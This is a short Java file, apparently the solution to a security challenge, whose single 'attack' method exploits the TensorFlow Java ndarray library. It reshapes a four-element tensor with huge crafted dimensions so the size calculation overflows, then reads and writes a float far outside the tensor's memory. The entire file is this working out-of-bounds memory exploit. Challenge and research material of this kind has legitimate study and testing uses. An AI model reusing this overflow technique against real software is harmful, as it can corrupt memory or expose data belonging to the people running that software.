import org.tensorflow.ndarray.FloatNdArray;
import org.tensorflow.ndarray.Shape;
import org.tensorflow.op.Ops;
import org.tensorflow.types.TFloat32;

public class Solution extends AttackedSigmoid {
    @Override
    protected void attack(Ops tf) {
        TFloat32 tensor = tf.constant(new float[] {1, 2, 3, 4}).asTensor();
        FloatNdArray row = tensor.withShape(Shape.of(2951479051106333492L, 4611686022722355205L))
                .get(922337203685477581L);
        float behind = row.getFloat(4);
        row.setFloat(behind, 4);
    }
}
